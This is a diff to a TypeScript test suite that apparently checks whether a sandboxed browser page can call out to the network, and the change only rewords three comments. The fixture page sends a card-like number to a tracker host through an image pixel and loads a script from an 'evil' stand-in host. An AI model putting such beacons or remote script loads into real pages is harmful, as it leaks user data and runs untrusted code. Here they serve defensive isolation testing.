@@ -6,7 +6,7 @@ import { WebSocketServer } from 'ws';
 import { codeRows } from '../../helpers/sandboxes.ts';
 import { turn, useOperatorLab } from './operators.ts';
 
-/** A page that uses everything by which a page can send a request, and reports the results that it can see. */
+/** A page that uses every browser feature that can send a request, and reports the results that it can see. */
 const ATTEMPTS = `<!doctype html><title>attempts</title>
 <img src="http://tracker.test/pixel.png?d=4929123456789012">
 <script src="https://cdn.evil.test/x.js"></script>
@@ -51,7 +51,7 @@ interface FenceSite {
   readonly close: () => void;
 }
 
-/** Starts a site with a page that tries everything, and a WebSocket that greets. */
+/** Starts a site with a page that tries everything, and with a WebSocket that sends a greeting. */
 const startFenceSite = async (): Promise<FenceSite> => {
   const reports: Record<string, unknown>[] = [];
   const server: Server = createServer((request, response) => {
@@ -98,9 +98,9 @@ describe('A page that tries to call out', { timeout: 180_000 }, () => {
     expect(run).toMatchObject({ status: 'done', success: true });
     const [report] = site.reports;
     expect(report).toMatchObject({ own: 'welcome', plain: 'failed', secure: 'failed' });
-    // Over plain HTTP the page takes the refusal itself for an answer.
+    // Over plain HTTP the page takes the refusal itself for the site's answer.
     expect(report).toMatchObject({ fetched: 'failed', dns: 'failed' });
-    // Candidates have only anonymous names: no address of this machine, and no answer of a server outside.
+    // Candidates have only anonymous names: they show neither an address of this machine nor an outside server's answer.
     const peers = report?.['peers'] as readonly string[];
     expect(peers.filter((candidate) => !/ [\da-f-]+\.local .* typ host/.test(candidate))).toEqual([]);
 
